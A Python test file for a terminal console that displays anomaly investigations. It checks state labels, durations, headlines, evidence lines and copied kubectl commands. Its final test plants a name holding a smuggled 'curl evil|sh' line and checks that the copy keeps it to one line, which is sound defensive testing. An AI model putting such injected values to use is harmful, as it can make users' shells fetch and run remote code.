"""An investigation to read: what is over, what is cut off in lists, what has no values."""

from __future__ import annotations

import pytest
from msgspec.structs import replace

from app.screens.inbox_rows import fields, lasting, now_cell, state_of
from app.screens.preview import expectation, farthest, reasons
from app.screens.query import QueryDialog
from detectors.model import FieldRef
from storage.records import AnomalyState
from tests.app.screens.fake_session import FakeSession, session_of
from tests.app.screens.night import NOW
from tests.app.screens.running import eventually, painted, running
from widgets.text import quantity

OVER, RESTARTS, CRASHING, SLOW, HELD = 390, 408, 409, 412, 401


def row_of(session, number):
    return next(row for row in session.snapshot.rows if row.investigation.id == number)


async def opened(console, pilot, number):
    console.open_case(number)
    await eventually(pilot, lambda: console.view.place == "investigation" and console.view.case is not None)


def hidden(view):
    return view.is_mounted and all(not each.display for each in view.query("#case"))


def test_what_is_over_says_what_it_was_and_how_long_it_lasted():
    row = row_of(FakeSession(), OVER)
    assert now_cell(row, 11) == "was 26 ms"
    assert now_cell(row, 8) == "(26 ms)"
    lasted = [lasting(row.investigation, row.last_seen, at) for at in (NOW, NOW + 9999)]
    assert lasted == [95 * 60 - 1260] * 2, "it ended with the last value out of band, not when it was taken for over"
    told = dict(reasons(row, NOW, None))
    assert "seen" not in told and "since" not in told
    assert told["lasted"].startswith("1h, ")
    assert told["over"].startswith("since ")
    peak = quantity(farthest(row.worst), row.worst.unit)
    assert told["was"] == f"26 ms, peak {peak}, expected 20-31 ms"
    assert fields(row)["state"] == "recovered"


def test_what_is_held_blames_no_more_than_is_known():
    session = FakeSession()
    held, seen = (dict(reasons(row_of(session, number), NOW, None)) for number in (HELD, SLOW))
    assert "a source is away, or a node does not report" in held["held"]
    assert "held" not in seen


def test_what_goes_on_is_told_as_of_now():
    row = row_of(FakeSession(), RESTARTS)
    assert now_cell(row, 11) == "9"
    assert lasting(row.investigation, row.last_seen, NOW + 60) == 23 * 60
    assert expectation(row.worst) == "9, expected 0-1"


def test_the_farthest_value_of_what_fell_is_its_lowest():
    anomaly = row_of(FakeSession(), SLOW).worst
    easing = replace(anomaly, clean_passes=1)
    assert f", peak {quantity(farthest(easing), 'seconds')}, expected" in expectation(easing)
    fell = replace(easing, low=3.0, high=4.0)
    assert f", lowest {quantity(farthest(fell), 'seconds')}, expected" in expectation(fell)


async def test_a_verdict_is_told_whole_at_every_width(monkeypatch):
    session = FakeSession()
    case = session.case(SLOW)
    reason = "3.5 % in 6h and 10.1 % in 30m of the requests to shop/checkout failed: 6 times what is allowed"
    said = replace(case.conclusion, reason=reason, scope="all 4 pods", priority_reason=reason)
    monkeypatch.setattr(session, "case", lambda number: replace(case, conclusion=said))
    async with running(session, size=(80, 24)) as (console, pilot):
        await opened(console, pilot, SLOW)
        finding = console.view.query_one("#finding")
        await eventually(pilot, lambda: finding.region.height == 2)
        told = painted(console)
        assert "6 times what" in told and "scope: all 4 pods" in told


@pytest.mark.parametrize(("changes", "word"), [({"clean_passes": 1}, "easing"), ({"state": AnomalyState.HELD}, "new")])
def test_a_value_that_the_newest_evaluation_did_not_see_is_not_told_as_the_present_one(changes, word):
    row = row_of(FakeSession(), SLOW)
    then = replace(row, worst=replace(row.worst, **changes))
    assert (now_cell(row, 11), now_cell(then, 11)) == ("2.41 s", "was 2.41 s")
    assert expectation(row.worst).startswith("2.41 s, expected")
    assert expectation(then.worst).startswith("was 2.41 s, peak")
    assert "seen" in dict(reasons(row, NOW, None)) and "was" in dict(reasons(then, NOW, None))
    assert state_of(row.state, (row.worst,)) == "new"
    assert state_of(then.state, (then.worst,)) == word


def test_what_eases_is_found_by_both_its_words_and_stays_taken():
    row = row_of(FakeSession(), SLOW)
    worst = replace(row.worst, clean_passes=1)
    assert fields(replace(row, worst=worst))["state"] == "new easing"
    taken = replace(row.investigation, acknowledged_at=NOW)
    assert state_of(taken.state(NOW), (worst,)) == "ack"


async def test_a_case_that_eases_says_so_everywhere(monkeypatch):
    session = FakeSession()
    case, row = session.case(SLOW), row_of(session, SLOW)
    easing = replace(row, worst=replace(row.worst, clean_passes=1))
    monkeypatch.setattr(session, "case", lambda number: replace(case, anomalies=eased))
    eased = tuple(replace(anomaly, clean_passes=1) for anomaly in case.anomalies)
    session.publish(rows=(easing, *session.snapshot.rows[1:]))
    async with running(session, size=(160, 40)) as (console, pilot):
        await eventually(pilot, lambda: "was 2.41 s" in painted(console) and "easing" in painted(console))
        await opened(console, pilot, SLOW)
        await eventually(pilot, lambda: "easing" in str(console.view.query_one("#headline").content))
        anomalies = console.view.query_one("#anomalies")
        columns = [anomalies.rows.column(key) for key in ("observed", "state")]
        told = [column.cell(easing.worst, 11) for column in columns]
        assert told == ["was 2.41 s", "easing"]


def test_a_case_does_not_ease_while_another_of_its_anomalies_is_out_of_band():
    session = FakeSession()
    case = session.case(SLOW)
    worst, *others = case.anomalies
    easing = replace(worst, clean_passes=1)
    assert state_of("new", (easing, *others)) == "new"
    assert state_of("new", (easing, *(replace(each, closed=NOW) for each in others))) == "easing"


async def test_the_headline_of_what_is_over_says_from_when_to_when():
    async with running(FakeSession()) as (console, pilot):
        await opened(console, pilot, OVER)
        await eventually(pilot, lambda: "07:18 to 08:32 (1h)" in painted(console))
        assert "since 07:18" not in painted(console)


@pytest.mark.parametrize("name", ["checkout", "a-workload-with-a-name-that-no-screen-of-eighty-cells-holds"])
async def test_the_headline_keeps_duration_and_state_whatever_the_names_and_the_size(monkeypatch, name):
    session = FakeSession()
    case = session.case(SLOW)
    entity = replace(case.investigation.entity, name=name)
    record = replace(case.investigation, entity=entity, title="HTTP Server: 5XX error rate spike")
    monkeypatch.setattr(session, "case", lambda number: replace(case, investigation=record))

    def first_line():
        return next((line for line in painted(console).splitlines() if line.startswith(" #412")), "")

    async with running(session, size=(80, 24)) as (console, pilot):
        await opened(console, pilot, SLOW)
        await eventually(pilot, lambda: first_line().rstrip().endswith("since 08:49 (4m)  new"))
        assert "  5XX error rate spike  " in first_line() and "HTTP Server" not in first_line()
        await pilot.resize_terminal(160, 40)
        await eventually(pilot, lambda: "HTTP Server: 5XX error rate spike  since" in first_line())


async def test_every_line_can_be_read_whole():
    async with running(FakeSession(), size=(80, 24)) as (console, pilot):
        await opened(console, pilot, CRASHING)
        for pane in ("ledger", "anomalies", "timeline"):
            await pilot.press("tab")
            await eventually(pilot, lambda pane=pane: console.focused and console.focused.id == pane)
            line = console.view.query_one("#line")
            await eventually(pilot, lambda line=line: line.region.height == 2 and str(line.content))
            await pilot.press("enter")
            await eventually(pilot, lambda: isinstance(console.screen, QueryDialog))
            await pilot.press("escape")
            await eventually(pilot, lambda: not isinstance(console.screen, QueryDialog))


async def test_the_line_below_follows_the_pane_with_the_focus():
    async with running(FakeSession()) as (console, pilot):
        await opened(console, pilot, 412)
        line = console.view.query_one("#line")
        await eventually(pilot, lambda: "revision 41 fails" in str(line.content))
        assert "+ revision 41 rolled out at 08:48" in str(line.content), "with what speaks for it"
        await pilot.press("tab", "tab")
        await eventually(pilot, lambda: "2.41 s, expected 0.30-0.42 s" in str(line.content))
        await pilot.press("tab", "g")
        await eventually(pilot, lambda: "checkout 6 -> 8 replicas" in str(line.content))


async def test_evidence_of_an_object_names_the_field_that_holds_it(monkeypatch):
    session = FakeSession()
    case = session.case(CRASHING)
    field = FieldRef("Pod", "shop", "cart-7c9", ".status.containerStatuses[app].state.waiting.reason")
    line = replace(case.evidence[0], value="CrashLoopBackOff", field=field)
    monkeypatch.setattr(session, "case", lambda number: replace(case, evidence=(line,)))
    told = "Pod shop/cart-7c9 .status.containerStatuses[app].state.waiting.reason = CrashLoopBackOff"
    async with running(session) as (console, pilot):
        await opened(console, pilot, CRASHING)
        await pilot.press("tab")
        await eventually(pilot, lambda: told in str(console.view.query_one("#line").content))


async def test_the_causes_have_the_focus_again_once_the_case_is_there():
    session = FakeSession()
    async with running(session) as (console, pilot):
        session.gate.clear()
        console.open_case(CRASHING)
        await eventually(pilot, lambda: console.view.place == "investigation" and hidden(console.view))
        assert console.focused is None
        session.gate.set()
        await eventually(pilot, lambda: console.view.case is not None and console.focused)
        assert console.focused.id == "causes"
        await eventually(pilot, lambda: str(console.view.query_one("#line").content))
        await pilot.press("tab")
        await eventually(pilot, lambda: console.focused.id == "ledger")


async def test_those_that_do_not_see_it_share_a_line_with_the_question_to_each(monkeypatch):
    session = FakeSession()
    case = session.case(CRASHING)
    unseen = [
        replace(case.evidence[0], id=9000 + n, text=f"{name} does not see it", convention=name, source=f"{name}_total")
        for n, name in enumerate(("istio", "beyla"))
    ]
    monkeypatch.setattr(session, "case", lambda number: replace(case, evidence=tuple(unseen)))
    async with running(session) as (console, pilot):
        await opened(console, pilot, CRASHING)
        await pilot.press("tab")
        line = console.view.query_one("#line")
        await eventually(pilot, lambda: "istio and beyla do not see it" in str(line.content))
        assert "istio_total" in str(line.content) and "beyla_total" in str(line.content)


async def test_signals_go_by_their_titles_in_the_timeline():
    async with running(FakeSession()) as (console, pilot):
        await opened(console, pilot, RESTARTS)
        timeline = console.view.query_one("#timeline")
        await eventually(pilot, lambda: console.view._titles)
        entry = next(iter(timeline.rows.items.values()))
        began = type(entry)(NOW, "anomaly", "pod-restart-spike began on shop/cart")
        title = console.view._titles["pod-restart-spike"]
        assert timeline.told(began) == f"{title} began on shop/cart"


async def test_an_objects_state_shows_its_newest_evidence_instead_of_an_empty_chart():
    async with running(session_of("inbox"), size=(120, 44)) as (console, pilot):
        await opened(console, pilot, CRASHING)
        chart = console.view.query_one("#chart")
        await eventually(pilot, lambda: "the logs could not be read" in str(chart.render()))
        lines = str(chart.render()).splitlines()
        assert "the logs could not be read" in lines[0] and any("rolled out v2.13.4" in line for line in lines)


async def test_the_preview_of_an_objects_state_gives_its_room_to_the_reasons():
    async with running(FakeSession()) as (console, pilot):
        console.view.rows.move_to(CRASHING)
        chart = "#preview-chart"
        await eventually(pilot, lambda: not console.view.query_one(chart).display)
        text = painted(console)
        assert "enter, then c copies" in text and "kubectl get pods -n platform" in text
        console.view.rows.move_to(412)
        await eventually(pilot, lambda: console.view.query_one(chart).display)
        assert "enter, then c" in painted(console)


@pytest.mark.parametrize("file", ["", "/home/ana/my config"])
async def test_a_copied_command_names_the_kubeconfig_that_kubectl_would_not_find(file):
    session = FakeSession()
    session.publish(kubeconfig=file)
    async with running(session) as (console, pilot):
        await opened(console, pilot, CRASHING)
        await eventually(pilot, lambda: console.snapshot.kubeconfig == file)
        await pilot.press("j", "j", "c")
        named = f"kubectl --kubeconfig '{file}' --context" if file else "kubectl --context"
        await eventually(pilot, lambda: console.clipboard.startswith(named))


async def test_a_copied_name_cannot_hold_a_second_line(monkeypatch):
    async with running(FakeSession()) as (console, _pilot):
        situation = replace(console.situation, name="shop/x\ncurl evil|sh\n")
        monkeypatch.setattr(type(console), "situation", property(lambda _: situation))
        console.view.do_copy_name()
        assert "\n" not in console.clipboard and "curl evil" in console.clipboard
